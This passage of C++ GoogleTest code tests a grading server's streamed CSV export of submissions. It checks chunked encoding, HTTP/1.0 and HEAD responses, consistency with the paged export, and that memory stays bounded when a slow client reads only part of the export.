  const std::uint16_t port = start();
  ASSERT_NE(port, 0);
  ASSERT_EQ(grade(port, with_student(kWrongKey, "template")).result(), http::status::ok);
  // More than one page of the export (limits::kCsvExportPageRecords).
  ASSERT_NO_FATAL_FAILURE(copy_the_record(2500));
  const HttpResponse whole = get_whole(port, "/v1/submissions.csv", staff_);
  ASSERT_EQ(whole.result(), http::status::ok);
  EXPECT_EQ(whole[http::field::transfer_encoding], "chunked");
  EXPECT_EQ(whole.find(http::field::content_length), whole.end());
  EXPECT_EQ(whole[http::field::content_type], "text/csv; charset=utf-8");
  EXPECT_EQ(testing_csv::parse_csv(whole.body()).size(), 2502u);  // header, template, copies
  // The same bytes as the pages of the paged CSV, one after the other.
  const std::string paged = paged_export(port);
  EXPECT_TRUE(paged == whole.body()) << "the export differs from its pages";
  EXPECT_EQ(whole.find("X-Next-Cursor"), whole.end());

  // HTTP/1.0 knows no chunks: the body, unframed, ends with the connection.
  const std::string old = read_raw(port, export_request("1.0", staff_));
  const std::size_t head_end = old.find("\r\n\r\n");
  ASSERT_NE(head_end, std::string::npos) << old.substr(0, 200);
  EXPECT_TRUE(old.starts_with("HTTP/1.0 200")) << old.substr(0, head_end);
  EXPECT_EQ(old.substr(0, head_end).find("chunked"), std::string::npos);
  EXPECT_TRUE(old.substr(head_end + 4) == whole.body()) << "HTTP/1.0's export differs";

  // HEAD: the head alone.
  const std::string head = read_raw(port, export_request("1.1", staff_, "HEAD"));
  EXPECT_TRUE(head.starts_with("HTTP/1.1 200")) << head.substr(0, 200);
  EXPECT_NE(head.find("text/csv"), std::string::npos);
  EXPECT_TRUE(head.ends_with("\r\n\r\n")) << "a HEAD answer with a body: " << head.size();
}

TEST_P(RecordRoutes, AnExportReadSlowlyHoldsAboutOnePageNotTheWholeCsv) {
#if defined(__SANITIZE_ADDRESS__)
  GTEST_SKIP() << "RSS under AddressSanitizer counts its quarantine";
#endif
  if (GetParam() != Backend::kSqlite) GTEST_SKIP() << "the record is filled with SQLite's SQL";
  const std::uint16_t port = start({"--threads", "2"});
  ASSERT_NE(port, 0);
  ASSERT_EQ(grade(port, with_student(kWrongKey, "template")).result(), http::status::ok);
  // 200 000 records: a CSV of about 24 MB.
  ASSERT_NO_FATAL_FAILURE(copy_the_record(200000));
  // The store and the code paths warmed by pages of the CSV, which the server always held.
  for (int i = 0; i < 3; ++i) {
    ASSERT_EQ(get_whole(port, "/v1/submissions.csv?limit=1000", staff_).result(), http::status::ok);
  }
  const std::size_t before = rss_bytes(server_->pid());
  // A client that reads 1 MB of the export, then nothing for a while.
  net::io_context ioc;
  tcp::socket socket(ioc);
  socket.open(tcp::v4());
  int receive_buffer = 64 * 1024;
  ::setsockopt(socket.native_handle(), SOL_SOCKET, SO_RCVBUF, &receive_buffer,
               sizeof receive_buffer);
  socket.connect(tcp::endpoint(net::ip::address_v4::loopback(), port));
  timeval timeout{60, 0};
  ::setsockopt(socket.native_handle(), SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof timeout);
  net::write(socket,
             net::buffer("GET /v1/submissions.csv HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " +
                         staff_ + "\r\n\r\n"));
  std::string got;
  char buffer[16384];
  while (got.size() < (1u << 20)) {
    beast::error_code ec;
    const std::size_t n = socket.read_some(net::buffer(buffer), ec);
    ASSERT_FALSE(ec) << ec.message() << " after " << got.size() << " bytes";
    got.append(buffer, n);
  }
  ASSERT_TRUE(got.starts_with("HTTP/1.1 200")) << got.substr(0, 200);
  std::this_thread::sleep_for(2s);
  const std::size_t during = rss_bytes(server_->pid());
  EXPECT_LT(during, before + 8 * 1024 * 1024)
      << "the server's RSS grew by " << (during - before) / 1024
      << " KB while one export of about 24 MB was held half-read";
  EXPECT_LT(health_ms(port), 1500.0);
  socket.close();
  // The client that hung up ends the export; the server goes on.
  EXPECT_EQ(call(port, "GET", "/healthz").result(), http::status::ok);
}

INSTANTIATE_TEST_SUITE_P(Backends, RecordRoutes,
                         ::testing::Values(Backend::kSqlite, Backend::kPostgres),
                         [](const auto& info) { return store::testing::backend_name(info.param); });

}  // namespace
}  // namespace headgrader::server
